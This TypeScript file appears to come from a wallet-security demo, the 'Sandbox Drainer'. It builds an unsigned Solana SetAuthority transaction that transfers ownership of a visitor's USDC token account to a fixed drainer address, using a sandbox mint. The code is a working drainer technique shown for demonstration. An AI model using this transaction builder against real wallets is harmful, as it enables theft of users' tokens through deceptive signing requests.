import {
  appendTransactionMessageInstructions,
  compileTransaction,
  createNoopSigner,
  createTransactionMessage,
  getBase64EncodedWireTransaction,
  pipe,
  setTransactionMessageFeePayer,
  setTransactionMessageLifetimeUsingBlockhash,
  type Address,
  type Blockhash,
} from '@solana/kit'
import { AuthorityType, findAssociatedTokenPda, getSetAuthorityInstruction, TOKEN_PROGRAM_ADDRESS } from '@solana-program/token'

/**
 * The Solana side of the Sandbox Drainer: no program, only the SPL Token program's SetAuthority
 * (AccountOwner) on the visitor's USDC token account, which hands that account, and every token in
 * it, to a sandbox address. What the demo's **Try a malicious request** asks a Solana wallet to sign;
 * built with @solana/kit alone, so it loads in a browser as well as in the sandbox.
 */

/** The sandbox's USDC mint (seed.ts: m/44'/501'/100'/0' of the dev mnemonic; checked in drainer.test.ts). */
export const SOLANA_USDC_MINT = 'GYUbjc8XZSbz8K21zBasax5SFH2bsy1Z1eBJeSE8Zhce' as Address
/** Who would receive the account: the sandbox's Solana authority (dev account 9, as the EVM drainer's owner is the deployer, dev account 9). */
export const SOLANA_DRAINER_ADDRESS = '2yaW8VAMLhQiornz1BgcSWDUSH2jC2dmB8RWnTJi8Yab' as Address

/** The visitor's USDC token account: its associated token account for the sandbox's mint. */
export async function usdcTokenAccount(owner: Address): Promise<Address> {
  const [account] = await findAssociatedTokenPda({ owner, mint: SOLANA_USDC_MINT, tokenProgram: TOKEN_PROGRAM_ADDRESS })
  return account
}

export type SetAuthorityTransaction = { transaction: string; tokenAccount: Address }

/**
 * An unsigned transaction (base64 wire bytes, what `solana_signAndSendTransaction` takes) that `owner`
 * pays for and signs: SetAuthority (AccountOwner) of `owner`'s USDC token account to `newOwner`.
 */
export async function setAuthorityTransaction(input: { owner: Address; blockhash: string; lastValidBlockHeight: bigint; newOwner?: Address | undefined }): Promise<SetAuthorityTransaction> {
  const tokenAccount = await usdcTokenAccount(input.owner)
  const instruction = getSetAuthorityInstruction({
    owned: tokenAccount,
    owner: createNoopSigner(input.owner),
    authorityType: AuthorityType.AccountOwner,
    newAuthority: input.newOwner ?? SOLANA_DRAINER_ADDRESS,
  })
  const message = pipe(
    createTransactionMessage({ version: 0 }),
    (m) => setTransactionMessageFeePayer(input.owner, m),
    (m) => setTransactionMessageLifetimeUsingBlockhash({ blockhash: input.blockhash as Blockhash, lastValidBlockHeight: input.lastValidBlockHeight }, m),
    (m) => appendTransactionMessageInstructions([instruction], m),
  )
  return { transaction: getBase64EncodedWireTransaction(compileTransaction(message)), tokenAccount }
}
